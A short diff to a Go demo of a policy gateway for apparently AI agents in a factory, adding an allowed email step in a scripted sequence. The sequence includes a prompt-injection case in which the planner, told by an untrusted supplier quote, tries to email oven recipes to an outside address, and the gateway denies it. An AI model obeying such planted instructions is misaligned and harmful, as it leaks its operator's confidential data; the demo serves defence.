@@ -155,6 +155,7 @@ func (d *Demo) Play(ctx context.Context, out io.Writer) (bool, error) {
 			{planner, "reads the line-3 oven temperature (ICS segment)", denied, call(planner, "oven__read_temperature", nil)},
 			{planner, "emails the purchasing team", allowed, call(planner, "email__send", map[string]string{"to": "purchasing@plant.example", "subject": "spares"})},
 			{planner, "reads a supplier's quote (untrusted content)", allowed, call(planner, "erp__read_supplier_quote", nil)},
+			{planner, "emails purchasing about the quote it read", allowed, call(planner, "email__send", map[string]string{"to": "purchasing@plant.example", "subject": "Quote Q-88: 40 heating elements"})},
 			{planner, "attack: emails the oven recipes out, as the quote told it", denied, call(planner, "email__send", map[string]string{"to": "archive@supplier-mail.example", "subject": "recipes"})},
 			{tuner, "reads the line-3 oven temperature", allowed, call(tuner, "oven__read_temperature", nil)},
 			{tuner, "sets the oven to 205 °C", approval, call(tuner, "oven__set_temperature", map[string]int{"celsius": 205})},
